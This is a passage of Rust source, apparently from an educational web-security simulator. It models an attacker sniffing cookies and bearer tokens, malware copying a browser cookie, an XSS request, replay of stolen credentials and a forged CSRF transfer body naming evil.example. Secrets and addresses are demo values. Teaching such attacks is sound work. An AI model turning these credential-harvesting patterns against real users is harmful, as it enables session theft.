        if let Some(cookies) = req.header(&COOKIE) {
            for kv in cookies.split("; ") {
                if let Some((name, value)) = kv.split_once('=') {
                    got.push(Credential::Cookie { name: name.into(), value: value.into() });
                }
            }
        }
        if let Some(token) = req.header(&AUTHORIZATION).and_then(|h| h.strip_prefix("Bearer ")) {
            got.push(Credential::Bearer(token.into()));
        }
        for set in res.header_values(&::http::header::SET_COOKIE) {
            if let Some((name, rest)) = set.split_once('=') {
                let value = rest.split(';').next().unwrap_or("");
                if !value.is_empty() {
                    got.push(Credential::Cookie { name: name.into(), value: value.into() });
                }
            }
        }
        if let Ok(body) = serde_json::from_str::<serde_json::Value>(&res.body) {
            if let Some(t) = body.get("access_token").and_then(|v| v.as_str()) {
                got.push(Credential::Bearer(t.into()));
            }
        }
        for credential in got.iter().cloned() {
            self.attacker.take(Loot { source: Source::Sniff, credential });
        }
        let summary: Note = AttackerNote::Sniffed { got }.into();
        self.attacker.last_attempt = Some(summary.clone());
        let raw = format!("{}{}", req.raw(), res.raw());
        self.leak(Actor::Browser, "HTTP", raw, summary)
    }

    /// Malware copies a cookie from the browser's profile on disk.
    fn steal_cookie(&mut self, name: &str) {
        let now = self.now();
        let found = self.browser.jar.iter().find(|c| c.name == name && !c.is_expired(now));
        let note = match found {
            Some(c) => {
                let credential = Credential::Cookie { name: c.name.clone(), value: c.value.clone() };
                self.attacker.take(Loot { source: Source::Malware, credential: credential.clone() });
                AttackerNote::CookieCopied(credential)
            }
            None => AttackerNote::NoCookieToCopy { name: Text::cookie_name(name) },
        };
        self.attacker.last_attempt = Some(note.into());
    }

    /// The injected script calls `GET /me` from the reader's page.
    fn xss_request(&mut self) -> Vec<Hop> {
        let hops = self.browse(Request::new(Method::GET, SITE_HOST, "/me"), Initiator::InjectedScript);
        if let Some(ex) = self.exchanges.back() {
            let cookies = ex
                .request
                .header(&COOKIE)
                .map(|h| h.split("; ").filter_map(|kv| kv.split('=').next()).map(Text::cookie_name).collect())
                .unwrap_or_default();
            let status = ex.response.status.as_u16();
            self.attacker.last_attempt = Some(AttackerNote::ScriptSent { status, cookies }.into());
        }
        hops
    }

    /// A request from the attacker's own browser, with a credential of their choosing.
    fn attacker_send(&mut self, method: Method, target: &str, credential: Option<Credential>) -> Vec<Hop> {
        let mut req = Request::new(method, SITE_HOST, target);
        if req.method == Method::POST {
            req = req.json("{}".into());
        }
        match &credential {
            Some(Credential::Bearer(t)) => req = req.with(AUTHORIZATION, &format!("Bearer {t}")),
            Some(Credential::Cookie { name, value }) => req = req.with(COOKIE, &format!("{name}={value}")),
            Some(Credential::Stored { .. } | Credential::Code(_)) | None => {}
        }
        let ex = self.send(Actor::Attacker, req, AttackerNote::Replaying(credential.clone()).into());
        let outcome = match ex.response.reason.clone() {
            Some(why) => Some(why),
            None => serde_json::from_str::<serde_json::Value>(&ex.response.body)
                .ok()
                .and_then(|b| b.get("user")?.as_str().map(|u| SiteNote::LoggedInAs { user: Text::copy(u) }.into())),
        };
        self.attacker.last_replay = Some(Replay { status: ex.response.status.as_u16(), outcome, used: credential });
        let hops = ex.hops.clone();
        self.push_exchange(ex);
        hops
    }
}

/// The body of evil.example's forged form: complete, it names the account and the miles.
pub const FORGED_TRANSFER: &str = "to=mallory&miles=5000";

/// A demo secret (never a real one): `demo-<hex>`.
fn demo_secret(rng: &mut Rng) -> Vec<u8> {
    format!("demo-{}", hex(&rng.bytes::<16>())).into_bytes()
}

fn client_ip(actor: Actor) -> &'static str {
    match actor {
        Actor::Attacker => "203.0.113.66",
        _ => "198.51.100.7",
    }
}

/// Percent-encodes everything but unreserved characters.
pub fn url_component(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// The session cookie's name (re-exported for the page).
pub const SID: &str = SESSION_COOKIE;

/// `200 OK`, `401 Unauthorized`, …: the label of a response hop.
pub(crate) fn status_label(status: ::http::StatusCode) -> Text {
    match status.as_u16() {
        200 => Text::Static("200 OK"),
        302 => Text::Static("302 Found"),
        400 => Text::Static("400 Bad Request"),
        401 => Text::Static("401 Unauthorized"),
        403 => Text::Static("403 Forbidden"),
        404 => Text::Static("404 Not Found"),
        _ => Text::concat(&[status.as_str(), " ", http::reason(status)]),
    }
}
